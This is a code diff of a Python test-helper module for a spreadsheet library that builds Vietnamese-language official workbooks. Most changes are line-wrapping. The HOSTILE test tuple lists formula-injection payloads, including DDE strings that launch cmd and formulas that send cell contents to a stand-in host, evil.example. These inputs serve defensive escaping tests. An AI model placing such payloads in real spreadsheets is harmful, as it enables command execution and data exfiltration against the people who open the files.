@@ -38,7 +38,7 @@ ERRORS = {"#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!"}
 HOSTILE = (
     "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","Bấm vào đây")', "=cmd|' /C calc'!A0",
     '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', '=WEBSERVICE("http://evil.example")',
-    "=DDE(\"cmd\";\"/C calc\";\"a\")", "==1", "=-1", "='Dữ liệu'!A1", "{=SUM(A1)}", "{=1+1}", "=@A1",
+    '=DDE("cmd";"/C calc";"a")', "==1", "=-1", "='Dữ liệu'!A1", "{=SUM(A1)}", "{=1+1}", "=@A1",
     "+1", "+1+1", "+cmd|' /C calc'!A0", "++1", "+84 912 345 678",
     "-1", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "- gạch đầu dòng",
     "@SUM(1+1)", "@A1", "@@", "@nguyen.van.an",
@@ -54,7 +54,9 @@ HOSTILE = (
 
 def small(*extra: Row) -> Workbook:
     """Give a workbook with every sort of cell: data, a form over it, and a cover that links to both."""
-    return Workbook("Nhỏ", "Cục", MADE, Footer("A & B", "Trang %(page)s/%(pages)s"), (_cover(), _form(*extra), _data()))
+    return Workbook(
+        "Nhỏ", "Cục", MADE, Footer("A & B", "Trang %(page)s/%(pages)s"), (_cover(), _form(*extra), _data())
+    )
 
 
 DATA_COLUMNS = (
@@ -76,7 +78,9 @@ FORM_COLUMNS = (
 
 def _cover() -> Sheet:
     columns = (Column("a", "", 100), Column("b", "", 120))
-    words = blocks.Letterhead("BỘ CÔNG THƯƠNG", "CỤC", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc")
+    words = blocks.Letterhead(
+        "BỘ CÔNG THƯƠNG", "CỤC", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc"
+    )
     tally = Tally((Ref("kg", "verdict", "form"), Ref("bd", "verdict", "form")), "Đạt", "/2")
     lines = (
         *blocks.letterhead(columns, words),
@@ -147,7 +151,9 @@ def opened(file: Path | bytes, *, values: bool = False) -> Book:
 def words(file: Path | bytes, tab: str) -> list[str]:
     """Read the first column below the head through a second library, which unescapes every text rightly."""
     source = BytesIO(file if isinstance(file, bytes) else file.read_bytes())
-    return [str(row[0]) for row in CalamineWorkbook.from_filelike(source).get_sheet_by_name(tab).to_python()[1:]]
+    return [
+        str(row[0]) for row in CalamineWorkbook.from_filelike(source).get_sheet_by_name(tab).to_python()[1:]
+    ]
 
 
 def formulas(book: Book) -> Iterator[tuple[str, str, str]]:
@@ -159,7 +165,9 @@ def formulas(book: Book) -> Iterator[tuple[str, str, str]]:
                     yield page.title, cell.coordinate, str(cell.value)
 
 
-def differences(file: Path, convert: Callable[[Path, str, Path], Path], folder: Path) -> tuple[int, list[str]]:
+def differences(
+    file: Path, convert: Callable[[Path, str, Path], Path], folder: Path
+) -> tuple[int, list[str]]:
     """Recalculate a workbook; give how many formulas it has, and where a stored value is not what comes out."""
     stored, again = opened(file, values=True), opened(convert(file, "xlsx", folder), values=True)
     found = list(formulas(opened(file)))
